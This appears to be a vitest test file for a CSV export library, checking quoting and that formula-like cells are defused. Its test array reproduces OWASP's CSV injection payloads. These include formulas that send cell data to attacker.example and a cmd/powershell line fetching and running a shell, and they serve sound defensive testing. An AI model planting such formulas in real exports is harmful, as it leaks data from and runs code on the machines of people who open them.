import { describe, expect, it } from "vitest";
import { parseCsv, toCsv } from "../src/lib/csv.js";

describe("CSV", () => {
  it("quotes what needs quoting and reads back what it wrote", () => {
    const rows = [
      ["google.com", 1234, 45.5],
      ['Say "hi", then', 0, null],
      ["line\nbreak", 1, 2],
    ];
    const text = toCsv(["Organization", "Messages", "Pass %"], rows);
    expect(text).toBe(
      'Organization,Messages,Pass %\r\ngoogle.com,1234,45.5\r\n"Say ""hi"", then",0,\r\n"line\nbreak",1,2\r\n',
    );
    expect(parseCsv(text)).toEqual([
      ["Organization", "Messages", "Pass %"],
      ["google.com", "1234", "45.5"],
      ['Say "hi", then', "0", ""],
      ["line\nbreak", "1", "2"],
    ]);
  });

  it("keeps text that a spreadsheet would run as a formula from running", () => {
    expect(toCsv(["a"], [["=HYPERLINK(1)"], ["-2"], ["-x"], ["@me"]])).toBe(
      "a\r\n'=HYPERLINK(1)\r\n-2\r\n'-x\r\n'@me\r\n",
    );
  });

  /**
   * The payloads of OWASP's CSV Injection page (owasp.org/www-community/attacks/CSV_Injection),
   * the one issue 40 found exported raw (a minus before a digit), and the page's advice that
   * leading whitespace, quotes, tabs and carriage returns do not make a cell safe.
   */
  const owaspPayloads = [
    `=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")`,
    "=cmd|' /C calc'!A0",
    `=cmd|' /C notepad'!'A1'`,
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\10.0.0.1\x03\x02\x01.dll,0'!_xlbgnm.A1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-.5+cmd|' /C calc'!A0",
    `=IMPORTXML(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)), "//a")`,
    `=WEBSERVICE("http://attacker.example/?"&A1)`,
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain text after a tab",
    "\rplain text after a carriage return",
    " =1+1",
    "   @SUM(A1:A9)",
    "'=1+1",
    `"=1+1`,
    `" -1+cmd|' /C calc'!A0`,
    "\u00a0=1+1",
    "\uff1dcmd|' /C calc'!A0",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
  ];

  it("neutralises every payload of OWASP's CSV injection list, and reads each back whole", () => {
    const text = toCsv(
      ["Organization"],
      owaspPayloads.map((payload) => [payload]),
    );
    const cells = parseCsv(text)
      .slice(1)
      .map((row) => row[0]!);
    expect(cells).toEqual(owaspPayloads.map((payload) => `'${payload}`));
  });

  it("leaves numbers and text a spreadsheet does not evaluate as they are", () => {
    const values = ["-2", "+3", "-1.5", "-.5", "1e3", "-2E-3", "google.com", "a=b", "x-1", "DDE calc"];
    expect(
      parseCsv(
        toCsv(
          ["a"],
          values.map((value) => [value]),
        ),
      ).slice(1),
    ).toEqual(values.map((v) => [v]));
  });

  it("quotes a semicolon, which some locales' spreadsheets split cells on", () => {
    expect(toCsv(["a"], [["x;=cmd|' /C calc'!A0"]])).toBe(`a\r\n"x;=cmd|' /C calc'!A0"\r\n`);
  });
});
